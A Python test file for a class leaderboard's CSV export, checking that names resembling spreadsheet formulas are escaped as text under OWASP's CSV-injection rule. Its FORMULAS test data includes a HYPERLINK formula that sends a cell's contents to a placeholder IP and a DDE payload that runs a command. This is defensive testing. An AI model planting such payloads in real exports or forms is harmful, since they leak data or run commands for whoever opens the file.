"""The board's CSV is opened by the teacher in a spreadsheet: a student's name that reads as a formula stays text
(OWASP's rule for CSV injection), and the scores stay numbers a spreadsheet can sort."""

from __future__ import annotations

import csv
import io
import time

from babygpt.scoring.leaderboard import Board, Entry, Refusal, Spread, board_csv, csv_table, rank_entries

FORMULAS = ['=HYPERLINK("http://198.51.100.7/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            " =cmd|' /C calc'!A0"]


def board_with(names: list[str]) -> Board:
    entries = [Entry(f"run{i}", name, f"{name} run", 1.5 + i / 10, f"gpt 2×64 · {name}")
               for i, name in enumerate(names)]
    return Board("Challenge (final)", "Text t", Spread(0.01, 1, 2), rank_entries(entries, 0.01),
                 waiting=[(names[0], "=WAIT()", "+training, step 3")],
                 refused=[Refusal(names[1], "-refused", "@it trains on =another text")])


def cells(text: str) -> list[list[str]]:
    return csv_table(text)


def test_a_name_that_reads_as_a_formula_stays_text_in_every_cell():
    rows = cells(board_csv(board_with(FORMULAS)))
    text_cells = [cell for row in rows[1:] for column, cell in zip(rows[0], row, strict=True)
                  if column not in ("bits_per_byte", "spread_bits") and cell]
    text_cells += [cell for row in csv.reader(io.StringIO(board_csv(board_with(FORMULAS)))) for cell in row
                   if row[0].startswith("#")]
    starts = ("=", "+", "-", "@", "\t", "\r", "\n")
    assert not [c for c in text_cells if c.lstrip().startswith(starts)], "no text cell starts like a formula"
    handles = [row[1] for row in rows[1:]]
    assert {h[1:] for h in handles} == set(FORMULAS), "the name is kept as typed, after the leading quote"
    tied = [row[5] for row in rows[1:len(FORMULAS) + 1]]
    assert all(t.startswith("'") for t in tied if t.lstrip("'").startswith(starts))


def test_scores_stay_numbers_and_ordinary_names_are_untouched():
    rows = cells(board_csv(board_with(["Ada", "Grace Hopper", "Zed"])))
    assert [r[1] for r in rows[1:4]] == ["Ada", "Grace Hopper", "Zed"]
    assert [float(r[4]) for r in rows[1:4]] == [1.5, 1.6, 1.7]
    assert all(float(r[6]) == 0.01 for r in rows[1:])
    assert rows[4] == ["not ranked", "Ada", "'=WAIT()", "", "", "", "0.0100", "'+training, step 3"]
    assert rows[5] == ["refused", "Grace Hopper", "'-refused", "", "", "", "0.0100", "'@it trains on =another text"]


def test_the_csv_says_which_challenge_it_is_before_its_table_and_status_has_its_own_column():
    board = board_with(["Ada", "Ben"])
    board.about = {"text": "=tiny shakespeare", "tokenizer": "char, 65 tokens", "budget (training tokens)": "76800"}
    board.ended_at = 1_800_000_000.0
    raw = list(csv.reader(io.StringIO(board_csv(board))))
    head = {row[0]: row[1] for row in raw if row[0].startswith("#")}
    assert head["# challenge"] == "Challenge (final)" and head["# text"] == "'=tiny shakespeare"
    assert head["# tokenizer"] == "char, 65 tokens" and head["# budget (training tokens)"] == "76800"
    assert head["# ended"] == time.strftime("%Y-%m-%d %H:%M", time.localtime(1_800_000_000.0))
    assert head["# score unit"] == "bits per byte"
    assert raw[len(head)][0] == "rank", "the header comes right after the challenge's rows"
    rows = cells(board_csv(board))
    assert rows[0][-1] == "status" and [r[3] for r in rows[1:]] == ["gpt 2×64 · Ada", "gpt 2×64 · Ben", "", ""]
    assert [r[7] for r in rows[1:]] == ["ranked", "ranked", "'+training, step 3", "'@it trains on =another text"]
